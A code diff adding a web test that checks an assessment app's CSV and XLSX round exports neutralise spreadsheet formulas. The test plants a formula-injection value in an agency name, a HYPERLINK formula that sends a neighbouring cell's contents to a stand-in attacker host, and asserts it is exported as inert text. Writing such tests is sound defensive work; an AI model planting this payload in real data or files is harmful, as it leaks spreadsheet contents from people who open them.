@@ -2,6 +2,7 @@
 
 from __future__ import annotations
 
+import csv
 import io
 import re
 from collections.abc import Callable
@@ -12,7 +13,7 @@ from openpyxl import load_workbook
 from sqlalchemy.orm import Session
 
 from assessment.domain.rules.benchmark import PeerGroup
-from assessment.services import benchmarking, export
+from assessment.services import assessments, benchmarking, export
 from assessment.store.models import Agency, User
 from tests.web.helpers import login
 from tests.web.peer_world import PEERS, Peers
@@ -254,3 +255,23 @@ def test_benchmark_page_links_the_exports(client: FlaskClient, peers: Peers) -> 
 
     assert f"/consultant/rounds/{peers.latest.id}/export.csv" in html
     assert f"/consultant/rounds/{peers.latest.id}/export.xlsx" in html
+
+
+def test_round_downloads_hold_no_live_formula(
+    client: FlaskClient, session: Session, peers: Peers, create_agency: Callable[..., Agency]
+) -> None:
+    name = '=HYPERLINK("http://attacker.example/?"&A2,"Open")'
+    agency = create_agency(name=name)
+    assessments.start_assessment(session, agency_id=agency.id, round_id=peers.latest.id, actor=None)
+    login(client, peers.consultant)
+
+    csv_body = client.get(f"/consultant/rounds/{peers.latest.id}/export.csv").get_data(True)
+    xlsx_body = client.get(f"/consultant/rounds/{peers.latest.id}/export.xlsx").data
+
+    csv_cells = [cell for row in csv.reader(io.StringIO(csv_body)) for cell in row]
+    assert f"'{name}" in csv_cells and name not in csv_cells
+    sheet = load_workbook(io.BytesIO(xlsx_body)).active
+    assert sheet is not None
+    cells = [cell for row in sheet.iter_rows() for cell in row]
+    assert "f" not in {cell.data_type for cell in cells}
+    assert f"'{name}" in [cell.value for cell in cells]
